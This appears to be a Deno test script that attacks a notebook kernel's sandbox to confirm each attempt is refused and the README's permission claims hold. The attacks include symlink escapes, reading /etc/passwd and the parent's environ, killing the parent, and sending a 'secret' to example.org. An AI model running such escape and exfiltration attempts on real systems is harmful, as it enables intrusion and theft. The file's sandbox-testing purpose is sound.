/**
 * Hostile notebooks against the installed kernel. Every attack runs in a cell
 * and in a worker of a cell; what it was after is looked at from outside. Then
 * each sentence of the README and the guide on permissions.
 *
 * Run: .ci/outside/attacks.sh [replay arriving drawing limits sentences]
 *
 * @module
 */
import { join } from "@std/path";
import { dependencyCache } from "../../lib/kernel/session/dependency_cache.ts";
import {
  describeLevel,
  levelOf,
  systemMeans,
} from "../../lib/kernel/confine/mod.ts";
import {
  SessionInterpreter,
  type SessionOptions,
} from "../../lib/kernel/session/mod.ts";
import { HostileKernel, inCell, inWorker } from "./hostile_kernel.ts";
import { check, demand, fail, finish } from "./tally.ts";
import { wasi } from "./wasi_links.ts";

const project = new URL("../../", import.meta.url).pathname.replace(/\/$/, "");
const launcher = join(project, "lib/kernel/confine/launcher.ts");
const main = join(project, "lib/kernel/launch/main.ts");
const cache = dependencyCache();
const secretText = "the secret of another folder";

const place = await Deno.makeTempDir({ prefix: "fringebook-attacks-" });
const folder = join(place, "notebook");
const secret = join(place, "secret.txt");
await Deno.mkdir(folder);
await Deno.writeTextFile(secret, secretText);

/** Counts who connects: a proxy that all requests would have to pass. */
function startTrap() {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const trap = { port: listener.addr.port, hits: 0, listener };
  void (async () => {
    for await (const connection of listener) {
      trap.hits++;
      connection.close();
    }
  })().catch(() => {});
  return trap;
}

const secretPath = JSON.stringify(secret);

interface Attack {
  readonly name: string;
  /** Body of an async function; gives what it got as text. */
  readonly body: string;
  /** Says why the attack was not held; `null` if it was. */
  readonly broken?: (text: string) => string | null;
}

/** Tries each and gives what came of it. */
const tryAll = (...attempts: string[]) =>
  `const said = [];
   for (const attempt of [${
    attempts.map((code) => `async () => ${code}`).join(", ")
  }]) {
     const late = new Promise((_, failed) => setTimeout(() => failed({ name: "as nothing came" }), 3000));
     try { said.push("GOT " + String(await Promise.race([attempt(), late])).slice(0, 200)); }
     catch (error) { said.push("refused " + error.name); }
   }
   return said.join("; ");`;

const nothingGot = (text: string) =>
  /GOT|worker failed: (?!Uncaught NotCapable)/.test(text) ||
    !/refused|NotCapable/.test(text)
    ? `it got something: ${text}`
    : null;

const attacks: Attack[] = [
  {
    name: "a symbolic link made with node:wasi, to read another folder",
    body: `${wasi}
      const code = symlink("../secret.txt", "way");
      const code2 = symlink(${secretPath}, "way2");
      return code + " " + code2 + " " + await Deno.readTextFile("way").catch((e) => e.name) + " " + openPath("way", 0)`,
    broken: (text) => /^['"]?0 |the secret/.test(text) ? text : null,
  },
  {
    name: "the same to write there",
    body: `${wasi}
      symlink("../secret.txt", "way3");
      return await Deno.writeTextFile("way3", "changed").then(() => "written", (e) => e.name)`,
  },
  {
    name: "a link to the kernel's launcher, to run with its permissions",
    body: `${wasi}
      const said = [];
      for (const target of ${
      JSON.stringify([launcher, main, join(cache, "gen")])
    }) {
        said.push(symlink(target, "launcher" + said.length));
        try { Deno.openSync("launcher" + (said.length - 1), { append: true }).close(); said.push("OPENED"); }
        catch { /* refused */ }
      }
      return said.join(" ")`,
    broken: (text) => /OPENED|\b0\b/.test(text) ? text : null,
  },
  {
    name: "hard links, by node:wasi and by name",
    body: `${wasi}
      await Deno.writeTextFile("mine.txt", "");
      const code = hardLink("mine.txt", "hard.txt");
      ${
      tryAll(
        `Deno.linkSync(${secretPath}, "hard2.txt")`,
        `(await import("node:fs")).linkSync("mine.txt", "hard3.txt")`,
      )
    }`,
    broken: nothingGot,
  },
  {
    name: "reading outside by every name of it",
    body: tryAll(
      `Deno.readTextFile(${secretPath})`,
      `Deno.readTextFile("../secret.txt")`,
      `Deno.readTextFile("/proc/self/root" + ${secretPath})`,
      `Deno.readTextFile("/proc/self/cwd/../secret.txt")`,
      `(await import("node:fs")).readFileSync(${secretPath}, "utf8")`,
      `import("data:text/javascript,export default 1").then(() => import("file://" + ${secretPath}, { with: { type: "text" } }))`,
      `fetch("file://" + ${secretPath}).then((r) => r.text())`,
      `Deno.readTextFile("/etc/passwd")`,
    ),
    broken: nothingGot,
  },
  {
    name: "the kernel's own process: its memory, its environment, signals",
    body: tryAll(
      `Deno.readTextFile("/proc/" + Deno.ppid + "/environ")`,
      `Deno.open("/proc/" + Deno.ppid + "/mem", { write: true, read: true })`,
      `Deno.kill(Deno.ppid, "SIGKILL")`,
      `process.kill(Deno.ppid, "SIGKILL")`,
      `(await import("node:process")).kill(1, "SIGTERM")`,
    ),
    broken: nothingGot,
  },
  {
    name: "writing the library, the settings, the compiled code of the cache",
    body: tryAll(
      `Deno.writeTextFile(${JSON.stringify(join(project, "lib/new.ts"))}, "")`,
      `Deno.open(${JSON.stringify(launcher)}, { append: true })`,
      `Deno.writeTextFile(${
        JSON.stringify(join(project, "notebook_permissions.json"))
      }, "{}")`,
      `Deno.writeTextFile("notebook_permissions.json", "{}")`,
      `Deno.writeTextFile(${JSON.stringify(join(cache, "gen/new.js"))}, "")`,
      `Deno.rename(${JSON.stringify(join(project, "lib"))}, "lib")`,
    ),
    broken: nothingGot,
  },
  {
    name: "words to the network: registry, hosts, sockets, names",
    body: tryAll(
      `import("npm:x-" + "secret")`,
      `import("npm:@x-secret/y@1.0.0")`,
      `import("jsr:@x/secret")`,
      `import("https://example.org/secret.ts")`,
      `fetch("http://example.org/secret")`,
      `new Promise((done, failed) => { const s = new WebSocket("ws://example.org/secret"); s.onopen = done; s.onerror = () => failed(new Error("no socket")); })`,
      `Deno.connect({ hostname: "127.0.0.1", port: 9 })`,
      `Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`,
      `Deno.resolveDns("secret.example.org", "A")`,
      `(await import("node:dns/promises")).lookup("secret.example.org")`,
      `new Promise((done, failed) => import("node:dgram").then(({ createSocket }) => { const s = createSocket("udp4"); s.on("error", failed); s.send("secret", 9, "127.0.0.1", (e) => e ? failed(e) : done(1)); }, failed))`,
      `Deno.listen({ port: 0 })`,
      `Promise.resolve(Deno.createHttpClient).then((create) => create({ proxy: { url: "http://127.0.0.1:9" } })).then((client) => fetch("http://example.org", { client }))`,
    ),
    broken: nothingGot,
  },
  {
    name: "storage that is kept past the notebook: localStorage, caches, KV",
    body: tryAll(
      `localStorage.setItem("mine", "x".repeat(1e6)) ?? localStorage.length`,
      `caches.open("mine").then((c) => c.put("http://a/b", new Response("x".repeat(1e6)))).then(() => caches.has("mine"))`,
      `Deno.openKv().then((kv) => kv.set(["a"], 1))`,
      `(await import("node:sqlite")).DatabaseSync && new (await import("node:sqlite")).DatabaseSync("/tmp/fringebook-attack.db").exec("create table a(b)")`,
    ),
    broken: nothingGot,
  },
  {
    name: "programs, libraries, environment, facts of the machine, inspector",
    body: tryAll(
      `new Deno.Command("ls").output()`,
      `new Promise((done, failed) => import("node:child_process").then(({ spawn }) => spawn("ls").on("error", failed).on("exit", done), failed))`,
      `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
      // In a worker it is as if it were not there.
      `Deno.env.get("HOME") ?? Promise.reject(new Error("nothing there"))`,
      `Deno.hostname()`,
      `(await import("node:inspector")).open(0)`,
    ),
    broken: nothingGot,
  },
];

async function stateOutside(): Promise<string> {
  const names = async (path: string) => {
    const found: string[] = [];
    try {
      for await (const { name } of Deno.readDir(path)) found.push(name);
    } catch {
      return "none";
    }
    return found.sort().join(" ");
  };
  return JSON.stringify([
    await Deno.readTextFile(secret),
    await names(place),
    await names(join(cache, "location_data")),
    await names(project),
    (await Deno.stat(launcher)).mtime,
    (await Deno.stat(main)).mtime,
  ]);
}

async function replay(): Promise<void> {
  const trap = startTrap();
  const proxy = `http://127.0.0.1:${trap.port}`;
  const env = { HTTPS_PROXY: proxy, HTTP_PROXY: proxy, https_proxy: proxy };
  const kernel = await HostileKernel.start({ folder, env });
  try {
    // What the kernel itself looks up when it starts is not the notebook's.
    await kernel.run("1");
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const own = trap.hits;
    console.log(`  ${own} connections of the kernel itself at its start`);
    const before = await stateOutside();
    for (const { name, body, broken = () => null } of attacks) {
      for (
        const [where, code] of [
          ["in a cell", inCell(body)],
          ["in a worker", inWorker(body)],
        ]
      ) {
        await check(`held ${where}: ${name}`, async () => {
          const { text } = await kernel.run(code!);
          console.log(`  ${text.slice(0, 300).replaceAll("\n", " ")}`);
          const why = broken(text);
          demand(why === null, why ?? "");
          demand(!text.includes(secretText), "the secret was read");
          demand(
            await stateOutside() === before,
            `something outside has changed: ${await stateOutside()}, before: ${before}`,
          );
          demand(
            trap.hits === own,
            `${trap.hits - own} connections left the machine`,
          );
          const { text: alive } = await kernel.run("1 + 1");
          demand(alive.endsWith("2"), `the kernel is not well: ${alive}`);
        });
      }
    }
  } finally {
    await kernel.stop();
  }
  const before = trap.hits;
  await check(
    "the trap does see a package that the person allows",
    async () => {
      const granted = await HostileKernel.start({
        folder,
        env,
        flags: ["--allow-import=registry.npmjs.org"],
      });
      const { text } = await granted.run(
        `await import("npm:x-not-there@1.0.0")`,
      );
      await granted.stop();
      demand(trap.hits > before, `nobody came: ${text}`);
    },
  );
  trap.listener.close();
}

/** A folder that arrives with links. */
async function arriving(): Promise<void> {
  const arrived = join(place, "arrived");
  await Deno.mkdir(join(arrived, "deep"), { recursive: true });
  await Deno.writeTextFile(
    join(arrived, "a.ipynb"),
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [{
        cell_type: "code",
        id: "a",
        metadata: {},
        outputs: [],
        execution_count: null,
        source: "1 + 1",
      }],
    }),
  );
  const links: [string, string][] = [
    ["data", secret],
    ["deep/folder", place],
    ["deep/new", join(place, "not-there-yet.txt")],
    [".hidden", launcher],
  ];
  for (const [name, target] of links) {
    await Deno.symlink(target, join(arrived, name));
  }
  await check("held: a folder that arrives with links, in a cell", async () => {
    const kernel = await HostileKernel.start({ folder: arrived });
    const { text, status } = await kernel.run(
      `await Deno.readTextFile("data")`,
    );
    await kernel.stop();
    demand(status === "error", "the cell ran");
    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
    demand(!text.includes(secretText), "the secret was read");
  });
  await check("held: the same in 'deno task run', with the names", async () => {
    const { code, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
      args: ["task", "--quiet", "run", join(arrived, "a.ipynb")],
      cwd: project,
    }).output();
    const text = new TextDecoder().decode(stdout) +
      new TextDecoder().decode(stderr);
    demand(code !== 0, "it ran well");
    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
  });
  await check("a link to what the person allows is followed", async () => {
    const kernel = await HostileKernel.start({
      folder: arrived,
      flags: [`--allow-read=${place},${project}`],
    });
    const { text } = await kernel.run(`await Deno.readTextFile("data")`);
    const { text: written } = await kernel.run(
      `await Deno.writeTextFile("data", "changed").then(() => "written", (e) => e.name)`,
    );
    await kernel.stop();
    demand(text.includes(secretText), text);
    demand(!written.includes("written"), "and written, too");
    demand(await Deno.readTextFile(secret) === secretText, "it was changed");
  });
}

/** Looks at the process that draws for a kernel. */
async function drawerIsConfined(kernel: HostileKernel): Promise<void> {
  let found = 0;
  for (const { name } of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    const read = (file: string) =>
      Deno.readTextFile(`/proc/${name}/${file}`).catch(() => "");
    const [status, line] = [await read("status"), await read("cmdline")];
    if (!line.includes("drawing_main.ts")) continue;
    const parent = /^PPid:\s(\d+)$/m.exec(status)?.[1];
    if (Number(parent) !== kernel.child.pid) continue;
    found++;
    demand(
      /^Seccomp:\s2$/m.test(status) && /^NoNewPrivs:\s1$/m.test(status),
      "it has no filter of system calls",
    );
    const flags = line.split("\0").filter((word) => /^--allow/.test(word));
    const paths = flags.join().split("=")[1]?.split(",") ?? [];
    demand(
      flags.length === 1 && flags[0]!.startsWith("--allow-read=") &&
        paths.every((path) =>
          [join(project, "lib"), join(project, "deno.json"), cache].includes(
            path,
          )
        ),
      flags.join(" "),
    );
  }
  demand(found === 1, `${found} processes draw`);
}

/** The process that draws for a session takes figures and nothing else. */
async function drawing(): Promise<void> {
  const kernel = await HostileKernel.start({ folder });
  const trap = startTrap();
  await check(
    "held: a figure with files, hosts and scripts in it",
    async () => {
      const { text } = await kernel.run(`
      const { createFigure, drawPicture } = await import("fringebook");
      const data = [{ x: [0, 1], y: [0, 1], text: ["<a href='javascript:1'>a</a><script>1</script>"], mode: "text" }];
      const image = (source) => ({ source, xref: "paper", yref: "paper", x: 0, y: 1, sizex: 1, sizey: 1 });
      const images = [image(${
        JSON.stringify(`file://${secret}`)
      }), image("http://127.0.0.1:${trap.port}/a.png")];
      const refused = await drawPicture(createFigure({ data, layout: { images }, caption: "a" })).then(() => "drawn", (error) => error.message);
      const { svg, png } = await drawPicture(createFigure({ data, layout: {}, caption: "b" }));
      [refused.includes("nothing loads them"), /javascript:|<script/.test(svg), png.length > 1000].join()`);
      demand(text === '"true,false,true"', text.slice(0, 500));
      demand(trap.hits === 0, "a host was asked");
    },
  );
  await check(
    "the process that draws is confined by itself",
    () => drawerIsConfined(kernel),
  );
  await check("held: what is no figure, written past the session", async () => {
    const { text } = await kernel.run(`
      const { writeSync } = await import("node:fs");
      const mark = [0xff, 0x46, 0xfe, 0x42, 0xff, 0x00, 0xfe, 0x01];
      for (const figure of ["", "{", "null", '{"layout":{}}', '{"layout":{"width":1e9,"height":1e9},"data":[]}', "[".repeat(1e6)]) {
        const body = new TextEncoder().encode(figure);
        const head = new TextEncoder().encode(JSON.stringify({ type: "draw", id: 1000, scale: 1, parts: [body.length] }));
        const frame = new Uint8Array(16 + head.length + body.length);
        frame.set(mark);
        new DataView(frame.buffer).setUint32(8, head.length + body.length);
        new DataView(frame.buffer).setUint32(12, head.length);
        frame.set(head, 16);
        frame.set(body, 16 + head.length);
        writeSync(1, frame);
      }
      6 * 7`);
    demand(text === "42", text.slice(0, 500));
    const { text: after } = await kernel.run(`
      const again = await import("fringebook");
      (await again.drawPicture(again.createFigure({ data: [{ y: [1, 2] }], caption: "after" }))).png.length > 1000`);
    demand(after === "true", after.slice(0, 500));
  });
  trap.listener.close();
  await kernel.stop();
}

/** Limits that the system keeps, here on a session as marking uses it. */
async function limits(): Promise<void> {
  const session = new SessionInterpreter({
    notebookFolder: folder,
    limits: { fileSize: 1e6, processorTime: 20, openFiles: 60 },
  });
  const run = async (code: string) => {
    const texts: string[] = [];
    const outcome = await session.execute({
      code,
      executionCount: 1,
      cellId: null,
      silent: false,
      userExpressions: {},
    }, {
      requestId: crypto.randomUUID(),
      publish: (output) => void texts.push(JSON.stringify(output)),
      requestInput: () => Promise.resolve(""),
      ready: () => Promise.resolve(),
    });
    return texts.join("") + JSON.stringify(outcome);
  };
  await check("held: files that are removed and stay open", async () => {
    const text = await run(`
      let size = 0;
      const open = [];
      try {
        for (let n = 0; n < 200; n++) {
          const file = Deno.openSync("big" + n, { create: true, write: true });
          Deno.removeSync("big" + n);
          open.push(file);
          for (let k = 0; k < 40; k++) size += file.writeSync(new Uint8Array(1e5));
        }
      } catch (error) { console.log(error.name, error.message) }
      "wrote " + (size / 1e6).toFixed(1)`);
    const size = Number(/wrote ([\d.]+)/.exec(text)?.[1] ?? 0);
    console.log(`  ${size} MB: ${text.slice(0, 200)}`);
    demand(size <= 60, `${size} MB were written`);
  });
  await check("held: a loop without an end, by processor time", async () => {
    const text = await run("for (;;) {}");
    demand(/SIGXCPU|SIGKILL/.test(text), text.slice(0, 300));
  });
  await session.close();
}

/** What the documents say, white space and marks left out. */
async function documents(): Promise<string> {
  const texts = await Promise.all(
    ["README.md", "notebooks/guide/kernel.md"].map((path) =>
      Deno.readTextFile(join(project, path))
    ),
  );
  return texts.join(" ").replace(/[`*]/g, "").replace(/\s+/g, " ");
}

/** The sentences of the README on permissions, one by one. */
async function sentencesOfReadme(): Promise<string[]> {
  const text = (await Deno.readTextFile(join(project, "README.md")))
    .replace(/[`*]/g, "").replace(/\s+/g, " ");
  const found = /Notebooks may read the project.*?(?= see \[the guide\])/.exec(
    text,
  );
  demand(found !== null, "the README has no paragraph on permissions");
  return found[0].split(/(?<=[.;:]) /)
    .map(withoutStop);
}

/** The guide's page on the kernel, from its permissions to its limits. */
async function guideOnPermissions(): Promise<string> {
  const text = await Deno.readTextFile(
    join(project, "notebooks/guide/kernel.md"),
  );
  const found = /\*\*Permissions\.\*\*[^]*(?=\n\*\*Limits\.\*\*)/.exec(text);
  demand(found !== null, "the guide has no paragraph on permissions");
  return found[0];
}

/** The sentences there, one by one. */
async function sentencesOfGuide(): Promise<string[]> {
  return (await guideOnPermissions())
    .replace(/```[^]*?```/g, "")
    .replace(/^\|.*$/gm, "")
    .replace(/\*\*\w+\.\*\*/g, "")
    .replace(/[`*]/g, "").replace(/\s+/g, " ").trim()
    .split(/(?<=[.;:]) (?=[A-Za-z])/)
    .map(withoutStop);
}

/** Names of the levels in the table there. */
async function levelsOfGuide(): Promise<string[]> {
  const rows = (await guideOnPermissions()).match(/^\|.*$/gm) ?? [];
  return rows.slice(2).map((row) => row.split("|")[1]!.trim());
}

function withoutStop(sentence: string): string {
  return sentence.replace(/[.;:]$/, "");
}

/** Each sentence of the README and of the guide on permissions is one check. */
async function sentences(): Promise<void> {
  const kernel = await HostileKernel.start({ folder });
  const granted = await HostileKernel.start({
    folder,
    flags: ["--allow-env=HOME", `--allow-read=${secret}`],
  });
  const path = (...parts: string[]) => JSON.stringify(join(project, ...parts));
  const runs = async (of: HostileKernel, code: string, expected: RegExp) => {
    const { text } = await of.run(code);
    demand(expected.test(text), text.slice(0, 500));
  };
  const writes = async (name: string) =>
    await runs(
      kernel,
      `await Deno.writeTextFile(${name}, "own"); const back = await Deno.readTextFile(${name}); await Deno.remove(${name}); back`,
      /^"own"$/,
    );
  const said: Record<string, () => Promise<void>> = {
    "Notebooks may read the project and their own folder, and write their own folder and out/":
      async () => {
        await runs(
          kernel,
          `(await Deno.readTextFile(${path("README.md")})).slice(0, 12)`,
          /^"# Fringebook"$/,
        );
        await writes('"own.txt"');
        await writes(path("out", "attacks.txt"));
        await runs(
          kernel,
          `await Deno.writeTextFile(${path("new.txt")}, "a")`,
          /NotCapable.*outside of the notebook/s,
        );
        await runs(
          kernel,
          `await Deno.readTextFile(${secretPath})`,
          /NotCapable/,
        );
      },
    "they have no network, no environment and start no programs": async () => {
      await runs(kernel, `await fetch("http://example.org")`, /NotCapable/);
      await runs(kernel, `Deno.env.get("HOME")`, /NotCapable/);
      await runs(
        kernel,
        `new Deno.Command("ls").outputSync()`,
        /NotCapable/,
      );
    },
    "On Linux the system itself keeps them to that, on macOS and Windows Deno alone":
      async () => {
        const { text } = await kernel.run("Deno.pid");
        const status = await Deno.readTextFile(`/proc/${text}/status`);
        demand(
          /^Seccomp:\s2$/m.test(status) && /^NoNewPrivs:\s1$/m.test(status),
          "the session has no filter of system calls",
        );
        const plain = await bySession({
          means: { landlock: 0, filter: false },
        });
        demand(/NotCapable/.test(plain.text), plain.text);
        demand(/confined by Deno alone/.test(plain.banner), plain.banner);
      },
    "the kernel says which when it starts": async () => {
      const { reply } = await kernel.client.request("kernel_info_request");
      const banner = String(reply?.content["banner"]);
      console.log(`  ${banner.replaceAll("\n", " | ")}`);
      demand(
        /confined (in part )?by the system|by Deno alone/.test(banner),
        banner,
      );
    },
    "Granting more is up to you, not to the notebook": async () => {
      await runs(
        granted,
        `typeof Deno.env.get("HOME") + await Deno.readTextFile(${secretPath})`,
        new RegExp(`^"string${secretText}"$`),
      );
      await runs(
        kernel,
        `await Deno.permissions.request({ name: "env" }).then(({ state }) => state)`,
        /^"(denied|prompt)"$/,
      );
    },
    "A notebook can change neither this file nor the library": async () => {
      await runs(
        kernel,
        `await Deno.writeTextFile(${path("notebook_permissions.json")}, "{}")`,
        /is protected/,
      );
      await runs(
        kernel,
        `await Deno.writeTextFile(${path("lib", "mod.ts")}, "")`,
        /NotCapable/,
      );
    },
    "It loads the packages of deno.json as they were fetched": async () => {
      await runs(
        kernel,
        `typeof (await import("ml-matrix")).Matrix`,
        /^"function"$/,
      );
    },
    'a package that is not there is asked of the registry only where you grant "import": ["registry.npmjs.org"], as its name would carry words outward':
      async () => {
        await runs(
          kernel,
          `await import("npm:x-not-there")`,
          /may not fetch|had no|was not fetched/,
        );
      },
    "It keeps nothing in localStorage or the Cache API": async () => {
      await runs(kernel, `localStorage.a = 1`, /not defined/);
      await runs(kernel, `await caches.open("a")`, /not defined/);
    },
    "A folder with symbolic links that lead outward is refused with their names":
      async () => {
        const linked = join(place, "linked");
        await Deno.mkdir(linked);
        await Deno.symlink(secret, join(linked, "way"));
        const other = await HostileKernel.start({ folder: linked });
        const { text, status } = await other.run("1");
        await other.stop();
        demand(status === "error" && text.includes("way"), text);
      },
    "Files that it removes while they are open are counted": async () => {
      // Below the limit nothing happens, and closed ones count no more.
      for (let round = 0; round < 2; round++) {
        await runs(
          kernel,
          `${removing(300)} for (const file of open) file.close(); "wrote"`,
          /^"wrote"$/,
        );
      }
    },
    "with more than 512 MB in them its session is ended (on Linux)":
      async () => {
        const { text, status } = await kernel.run(
          `${removing(1500)} "wrote 1500 MB"`,
        );
        console.log(`  ${text.slice(0, 200)}`);
        demand(
          status === "error" && text.includes("limit of 512 MB"),
          text.slice(0, 300),
        );
      },
    "Its figures are drawn by another process, which gets them as data and may read nothing but the library and its packages":
      async () => {
        await runs(
          kernel,
          `const own = await import("fringebook");
           (await own.drawPicture(own.createFigure({ data: [{ y: [1, 2] }], caption: "own" }))).png.length > 1000`,
          /^true$/,
        );
        await drawerIsConfined(kernel);
      },
    "The rules are set before the session starts, and nothing in it can take them back":
      async () => {
        await runs(
          kernel,
          `[...new Set(await Promise.all(["read", "write", "net", "run", "ffi"].map(async (name) => (await Deno.permissions.request({ name })).state)))].join()`,
          /^"(denied|prompt)(,(denied|prompt))*"$/,
        );
      },
    "Inside the notebook's own folder Deno alone keeps what is protected there (deno.json, .git)":
      async () => {
        await runs(
          kernel,
          `await Deno.writeTextFile("deno.json", "{}")`,
          /is protected|NotCapable/,
        );
      },
    "More is granted by you, not by the notebook": () =>
      said["Granting more is up to you, not to the notebook"]!(),
    "at installation (deno task kernel --user --allow-net=localhost:5025), or in a file notebook_permissions.json in the project's folder":
      async () => {
        const { text } = await task(
          ...["kernel", "--user", "--allow-net=localhost:5025", "--print"],
        );
        demand(text.includes('"--allow-net=localhost:5025"'), text);
        const grantFile = join(place, "notebook_permissions.json");
        await Deno.writeTextFile(
          grantFile,
          JSON.stringify({ "notebook": { read: [secret] } }),
        );
        const { text: read } = await bySession({ grantFile });
        demand(read.includes(secretText), read);
      },
    "A notebook may read the project and its own folder, and write its own folder and out/":
      () =>
        said[
          "Notebooks may read the project and their own folder, and write their own folder and out/"
        ]!(),
    "It has no network, no environment, no programs": () =>
      said["they have no network, no environment and start no programs"]!(),
    'remove them, or grant "read" where they lead': async () => {
      const linked = join(place, "linked-and-granted");
      await Deno.mkdir(linked);
      await Deno.symlink(secret, join(linked, "way"));
      const other = await HostileKernel.start({
        folder: linked,
        flags: [`--allow-read=${secret}`],
      });
      await runs(
        other,
        `await Deno.readTextFile("way")`,
        new RegExp(`^"${secretText}"$`),
      );
      await other.stop();
    },
    "Beside Deno's permissions the system itself keeps a notebook in, as far as it can":
      () =>
        said[
          "On Linux the system itself keeps them to that, on macOS and Windows Deno alone"
        ]!(),
    "the banner of the kernel, its log and deno task run say which of three levels holds":
      async () => {
        await said["the kernel says which when it starts"]!();
        const level = describeLevel(systemMeans());
        const notebook = join(place, "one.ipynb");
        await Deno.writeTextFile(notebook, oneCell);
        const { text } = await task("run", notebook);
        demand(text.includes(level), text);
        const { stderr } = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", main, join(place, "no-connection.json")],
          cwd: project,
        }).output();
        const log = new TextDecoder().decode(stderr);
        demand(log.includes(level), log);
      },
    "with the network granted, Deno alone tells hosts apart": async () => {
      const [one, two] = [startTrap(), startTrap()];
      const open = await HostileKernel.start({
        folder,
        flags: [`--allow-net=127.0.0.1:${one.port}`],
      });
      const connect = (port: number) =>
        `(await Deno.connect({ hostname: "127.0.0.1", port: ${port} })).close(); "connected"`;
      await runs(open, connect(one.port), /^"connected"$/);
      await runs(open, connect(two.port), /NotCapable/);
      await open.stop();
      for (const { listener } of [one, two]) listener.close();
      demand(two.hits === 0, "the other port was reached");
    },
  };
  const levels: Record<string, () => Promise<void>> = {
    "confined by the system": async () => {
      if (levelOf(systemMeans()) !== "confined by the system") {
        console.log("  this machine has less: not looked at");
        return;
      }
      // A program that the person allowed knows nothing of Deno's permissions.
      const program = await HostileKernel.start({
        folder,
        flags: ["--allow-run=cat"],
      });
      const { text } = await program.run(
        `new TextDecoder().decode((await new Deno.Command("cat", { args: [${secretPath}] }).output()).stdout) + "|"`,
      );
      await program.stop();
      demand(text === '"|"', text);
    },
    "confined in part by the system": async () => {
      const [one, two] = ["by-landlock", "by-seccomp"]
        .map((name) => join(place, name));
      for (const each of [one!, two!]) await Deno.mkdir(each);
      const files = await bySession({
        folder: one!,
        means: { landlock: 3, filter: false },
        code: throughLink,
      });
      demand(/keeps them from other files/.test(files.banner), files.banner);
      demand(!files.text.includes(secretText), files.text);
      const calls = await bySession({
        folder: two!,
        means: { landlock: 0, filter: true },
        code: throughLink,
      });
      demand(
        /keeps? (it|them) from the network, links/.test(calls.banner),
        calls.banner,
      );
      demand(!calls.text.includes(secretText), calls.text);
    },
    "confined by Deno alone": async () => {
      const means = { landlock: 0, filter: false };
      const { text, banner } = await bySession({ means });
      demand(/NotCapable/.test(text), text);
      demand(/confined by Deno alone/.test(banner), banner);
      const fetched = await bySession({
        means,
        code: `await import("npm:x-not-there")`,
      });
      demand(/may not fetch|was not fetched/.test(fetched.text), fetched.text);
      const linked = await bySession({ means, folder: join(place, "linked") });
      demand(linked.text.includes("way"), linked.text);
    },
  };
  const documented = await documents();
  for (const [sentence, body] of Object.entries(said)) {
    await check(sentence, async () => {
      demand(documented.includes(sentence), "no document says so");
      await body();
    });
  }
  await check(
    "every sentence of the README on permissions is a check",
    async () => {
      const missing = (await sentencesOfReadme()).filter((sentence) =>
        !(sentence in said)
      );
      demand(missing.length === 0, missing.join("\n"));
    },
  );
  await check(
    "every sentence of the guide on permissions is a check",
    async () => {
      const missing = (await sentencesOfGuide()).filter((sentence) =>
        !(sentence in said)
      );
      demand(missing.length === 0, missing.join("\n"));
    },
  );
  for (const level of await levelsOfGuide()) {
    await check(`the guide's level "${level}"`, async () => {
      demand(level in levels, "no check");
      await levels[level]!();
    });
  }
  await kernel.stop();
  await granted.stop();
}

/** A task of the project, and what it printed. */
async function task(...args: string[]): Promise<{ text: string }> {
  const { stdout, stderr } = await new Deno.Command(Deno.execPath(), {
    args: ["task", "--quiet", ...args],
    cwd: project,
  }).output();
  return {
    text: new TextDecoder().decode(stdout) + new TextDecoder().decode(stderr),
  };
}

const oneCell = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {},
  cells: [{
    cell_type: "code",
    id: "one",
    metadata: {},
    source: "1",
    outputs: [],
    execution_count: null,
  }],
});

/** Reads the secret through a link that Deno knows nothing of. */
const throughLink = inCell(`${wasi}
  symlink("../secret.txt", "way");
  return await Deno.readTextFile("way").catch((e) => e.name) + openPath("way", 0)`);

/** Code that holds files of so many MB open which it removed. */
const removing = (megabytes: number) => `
  const open = [];
  for (let n = 0; n < ${megabytes / 10}; n++) {
    const file = Deno.openSync("gone", { create: true, write: true });
    Deno.removeSync("gone");
    open.push(file);
    for (let k = 0; k < 10; k++) file.writeSync(new Uint8Array(1e6));
    await new Promise((resolve) => setTimeout(resolve, 5));
  }`;

/** What a cell says in a session of other options than a kernel's. */
async function bySession(
  {
    code = `await Deno.readTextFile(${secretPath})`,
    folder: own = folder,
    ...options
  }:
    & { readonly code?: string; readonly folder?: string }
    & Pick<SessionOptions, "means" | "grantFile">,
): Promise<{ text: string; banner: string }> {
  const session = new SessionInterpreter({ notebookFolder: own, ...options });
  const outcome = await session.execute({
    code,
    executionCount: 1,
    cellId: null,
    silent: false,
    userExpressions: {},
  }, {
    requestId: crypto.randomUUID(),
    publish: () => {},
    requestInput: () => Promise.resolve(""),
    ready: () => Promise.resolve(),
  });
  const { banner } = session;
  await session.close();
  return { text: JSON.stringify(outcome), banner };
}

try {
  for (const part of [replay, arriving, drawing, limits, sentences]) {
    if (Deno.args.length > 0 && !Deno.args.includes(part.name)) continue;
    try {
      await part();
    } catch (error) {
      fail((error as Error).stack ?? String(error));
    }
  }
} finally {
  await Deno.remove(place, { recursive: true });
}
finish();
